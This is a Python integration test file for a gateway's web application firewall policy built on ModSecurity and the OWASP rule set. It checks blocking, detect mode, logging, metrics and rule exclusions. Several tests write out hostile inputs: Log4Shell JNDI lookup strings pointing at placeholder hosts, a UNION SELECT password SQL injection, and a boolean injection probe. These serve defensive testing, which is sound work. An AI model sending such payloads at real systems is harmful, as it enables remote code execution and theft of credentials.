"""The ``waf`` policy through a real gateway process (ModSecurity v3 + OWASP CRS from Debian's
``libmodsecurity3`` and ``modsecurity-crs``) and a scripted upstream.

An attack corpus is answered 403 and never reaches the upstream; a benign corpus (JSON APIs,
forms, multipart uploads, browser requests) passes untouched at paranoia level 1; detect mode
passes and logs; interventions are JSON log lines and metrics by rule; policy ``rules``,
``ruleExclusions``, ``paranoiaLevel`` and ``requestBodyLimit`` change what is inspected."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from tests.integration.policies.waf_corpus import (
    API_CLIENT,
    ATTACKS,
    BENIGN,
    JSON_TYPE,
    TEMPLATE_TEXT,
    Case,
)
from tests.support import resources as r
from tests.support.client import RawClient, roundtrip
from tests.support.gateway import Gateway, metric_value
from tests.support.h1 import Response
from tests.support.net import poll_until
from tests.support.upstream import ScriptedUpstream

HOST = "waf.test"
EXTRA_RULE = ('SecRule REQUEST_HEADERS:X-Magic "@streq open-sesame" '
              '"id:1000001,phase:1,deny,status:403,log,msg:\'magic header\'"')


@pytest.fixture(scope="module")
def upstream(module_upstreams: Any) -> ScriptedUpstream:
    return module_upstreams("app")


@pytest.fixture(scope="module")
def gw(module_gateways: Any, upstream: ScriptedUpstream) -> Gateway:
    def waf(**spec: Any) -> list[dict[str, Any]]:
        return [{"waf": spec}]

    return module_gateways(lambda port: r.dump(
        r.gateway(port),
        r.route("app", hostnames=[HOST], rules=[
            r.rule({"prefix": "/block/"}, forward=r.forward("app"), policies=waf()),
            r.rule({"prefix": "/detect/"}, forward=r.forward("app"),
                   policies=waf(mode="detect")),
            r.rule({"prefix": "/custom/"}, forward=r.forward("app"), policies=waf(
                rules=[EXTRA_RULE], ruleExclusions=[942100, 932130], requestBodyLimit="4KiB")),
            r.rule({"prefix": "/strict/"}, forward=r.forward("app"),
                   policies=waf(paranoiaLevel=2)),
            r.rule({"prefix": "/plain/"}, forward=r.forward("app")),
        ]),
        r.upstream("app", upstream.port),
    ))


@pytest.fixture
def app(upstream: ScriptedUpstream, gw: Gateway) -> ScriptedUpstream:
    upstream.reset()  # echo
    return upstream


def send(gw: Gateway, prefix: str, case: Case) -> Response:
    return roundtrip(gw.port, case.method, prefix + case.target.lstrip("/"), case.headers,
                     case.body, host=HOST)


def waf_records(gw: Gateway) -> list[dict[str, Any]]:
    """The JSON intervention lines the gateway has logged so far."""
    text = gw.stderr_path.read_text(errors="replace")
    return [json.loads(line[line.index('{"event":"waf"'):])
            for line in text.splitlines() if '{"event":"waf"' in line]


def wait_records(gw: Gateway, predicate: Any, timeout: float = 5.0) -> list[dict[str, Any]]:
    deadline = time.monotonic() + timeout
    while True:
        found = [rec for rec in waf_records(gw) if predicate(rec)]
        if found or time.monotonic() > deadline:
            return found
        time.sleep(0.05)


def test_attack_corpus_is_blocked_before_the_upstream(gw: Gateway, app: ScriptedUpstream
                                                      ) -> None:
    passed: list[str] = []
    refused: list[str] = []  # by the gateway before any policy (path normalization: 400)
    blocked_by_kind: dict[str, int] = {}
    for case in ATTACKS:
        response = send(gw, "/block/", case)
        if response.status == 403:
            assert response.body == b"forbidden\n", case.id  # the gateway's own answer
            blocked_by_kind[case.kind] = blocked_by_kind.get(case.kind, 0) + 1
        elif response.status == 400:
            refused.append(case.id)
        else:
            passed.append(f"{case.id} ({response.status})")
    blocked = sum(blocked_by_kind.values())
    print(f"\nwaf attack corpus (paranoia 1, block): {blocked} blocked by the waf, "
          f"{len(refused)} refused earlier by the gateway, {len(passed)} passed, "
          f"of {len(ATTACKS)}; blocked by kind: {blocked_by_kind}")
    assert not passed, f"attacks that went through: {passed}"
    assert refused == ["traversal-path"]
    assert app.requests == [], "the upstream saw a blocked request"


def test_benign_corpus_passes_untouched(gw: Gateway, app: ScriptedUpstream) -> None:
    blocked: list[str] = []
    for case in BENIGN:
        response = send(gw, "/block/", case)
        if response.status != 200:
            blocked.append(f"{case.id} ({response.status})")
    print(f"\nwaf benign corpus (paranoia 1, block): {len(BENIGN) - len(blocked)} passed, "
          f"{len(blocked)} blocked of {len(BENIGN)}")
    assert not blocked, f"false positives: {blocked}"
    seen = app.wait_for_requests(len(BENIGN))
    for case, request in zip(BENIGN, seen, strict=True):
        assert request.method == case.method
        assert request.body_size == len(case.body), case.id  # inspected, not changed
        assert request.body == case.body[:1 << 20], case.id


def test_the_same_attacks_pass_without_the_policy(gw: Gateway, app: ScriptedUpstream) -> None:
    for case in ATTACKS[:3]:
        assert send(gw, "/plain/", case).status == 200
    assert len(app.wait_for_requests(3)) == 3


def test_an_intervention_is_one_json_line_and_counted_by_rule(gw: Gateway,
                                                             app: ScriptedUpstream) -> None:
    case = next(c for c in ATTACKS if c.id == "log4shell-lower")
    response = send(gw, "/block/", case)
    assert response.status == 403
    request_id = response.header("x-request-id")
    assert request_id
    records = wait_records(gw, lambda rec: rec["request_id"] == request_id)
    assert len(records) == 1
    record = records[0]
    assert record["action"] == "blocked" and record["mode"] == "block"
    assert record["phase"] == "request" and record["method"] == "GET"
    assert record["path"] == "/block/"
    ids = [rule["id"] for rule in record["rules"]]
    assert "944150" in ids and ids[-1] == "949110"  # the Log4Shell rule, then the verdict
    log4j = next(rule for rule in record["rules"] if rule["id"] == "944150")
    assert "Log4j" in log4j["msg"] and "${" in log4j["data"]
    assert all(len(rule.get("data", "")) <= 203 for rule in record["rules"])
    metrics = gw.metrics()
    assert metric_value(metrics, "propylon_waf_rule_matches_total",
                        rule="944150", action="blocked") >= 1
    assert metric_value(metrics, "propylon_waf_requests_total", action="blocked") >= 1
    assert 'rule="${' not in metrics  # labels come from the rule set, never from requests


def test_detect_mode_passes_and_logs(gw: Gateway, app: ScriptedUpstream) -> None:
    for case in ATTACKS[:4]:
        response = send(gw, "/detect/", case)
        assert response.status == 200, case.id
        request_id = response.header("x-request-id")
        records = wait_records(gw, lambda rec, rid=request_id: rec["request_id"] == rid)
        assert [rec["action"] for rec in records] == ["detected"], case.id
        assert records[0]["mode"] == "detect"
    assert len(app.wait_for_requests(4)) == 4
    assert metric_value(gw.metrics(), "propylon_waf_requests_total", action="detected") >= 4


def test_policy_rules_exclusions_and_body_limit(gw: Gateway, app: ScriptedUpstream) -> None:
    magic = roundtrip(gw.port, "GET", "/custom/", [*API_CLIENT, ("X-Magic", "open-sesame")],
                      host=HOST)
    assert magic.status == 403 and magic.body == b"forbidden\n"
    rid = magic.header("x-request-id")
    [record] = wait_records(gw, lambda rec: rec["request_id"] == rid)
    assert [rule["id"] for rule in record["rules"]] == ["1000001"]
    # 942100 (libinjection) and 932130 (shell expressions) are excluded there
    sqli = Case("x", "sqli", "GET", "/items?id=1%20AND%201%3D1")
    assert send(gw, "/block/", sqli).status == 403
    assert send(gw, "/custom/", sqli).status == 200
    assert send(gw, "/block/", TEMPLATE_TEXT).status == 403
    assert send(gw, "/custom/", TEMPLATE_TEXT).status == 200
    big = roundtrip(gw.port, "POST", "/custom/upload", [*API_CLIENT, JSON_TYPE],
                    json.dumps({"data": "x" * 5000}).encode(), host=HOST)
    assert big.status == 413
    assert [req.target for req in app.requests] == ["/custom/items?id=1%20AND%201%3D1",
                                                    "/custom/api/templates"]


def test_paranoia_level_two_sees_more(gw: Gateway, app: ScriptedUpstream) -> None:
    # a lookup nested far apart: Log4Shell rule 944151 runs from paranoia level 2
    far = Case("far", "log4shell", "GET", "/",
               [*API_CLIENT, ("X-Note", "${" + "a" * 30 + "${lower:j}ndi:ldap://x/a}")])
    assert send(gw, "/block/", far).status == 200
    assert send(gw, "/strict/", far).status == 403


def test_chunked_body_and_expect_continue(gw: Gateway, app: ScriptedUpstream) -> None:
    attack = b'{"q": "${jndi:ldap://203.0.113.9/a}"}'
    with RawClient(gw.port) as client:
        client.request("POST", "/block/api", [*API_CLIENT, JSON_TYPE, ("Expect", "100-continue"),
                                              ("Content-Length", str(len(attack)))], host=HOST)
        interim = client.read_response()
        assert interim.status == 100  # the waf asks for the body it must inspect
        client.send(attack)
        assert client.read_response().status == 403
        benign = b'{"q": "hello"}'
        chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(benign), benign)
        client.request("POST", "/block/api", [*API_CLIENT, JSON_TYPE,
                                              ("Transfer-Encoding", "chunked")], chunked,
                       host=HOST)
        response = client.read_response()
        assert response.status == 200
    [request] = app.wait_for_requests(1)
    assert request.body == benign


def test_client_gone_during_inspection_leaves_the_gateway_serving(
        gw: Gateway, app: ScriptedUpstream) -> None:
    body = json.dumps({"items": [{"id": i, "name": f"n{i}"} for i in range(300)]}).encode()
    for _ in range(5):
        with RawClient(gw.port) as client:
            client.request("POST", "/block/api", [*API_CLIENT, JSON_TYPE], body, host=HOST)
    case = BENIGN[1]
    assert send(gw, "/block/", case).status == 200


@pytest.mark.parametrize("media_type", [
    "application/vnd.api+json", "application/hal+json", "application/geo+json",
    "application/scim+json", "application/reports+json",
    "application/vnd.github.v3+json; charset=utf-8",
])
def test_json_api_media_types_are_allowed(gw: Gateway, app: ScriptedUpstream,
                                          media_type: str) -> None:
    """Any application/*+json body is parsed as JSON (rule 200001), so CRS 920420 lets it in;
    other media types outside the allowed list are still refused."""
    body = json.dumps({"data": {"type": "items", "attributes": {"name": "lamp"}}}).encode()
    response = roundtrip(gw.port, "POST", "/block/api/items",
                         [*API_CLIENT, ("Content-Type", media_type)], body, host=HOST)
    assert response.status == 200, response.body
    # this test's request: a request the test before abandoned during inspection may still
    # reach the upstream (late, on a loaded machine), at /block/api
    [request] = poll_until(lambda: [r for r in app.requests if r.path == "/block/api/items"],
                           message="the request forwarded")
    assert request.body == body
    attack = json.dumps({"q": "1' UNION SELECT password FROM users--"}).encode()
    assert roundtrip(gw.port, "POST", "/block/api/items",
                     [*API_CLIENT, ("Content-Type", media_type)], attack,
                     host=HOST).status == 403  # still parsed and inspected


@pytest.mark.parametrize("media_type", [
    "application/x-evil", "application/json-evil", "application/vnd.api+jsonx",
    "text/x+json", "application/+json+xml",
])
def test_other_media_types_are_still_refused(gw: Gateway, app: ScriptedUpstream,
                                             media_type: str) -> None:
    response = roundtrip(gw.port, "POST", "/block/api/items",
                         [*API_CLIENT, ("Content-Type", media_type)], b"{}", host=HOST)
    assert response.status == 403
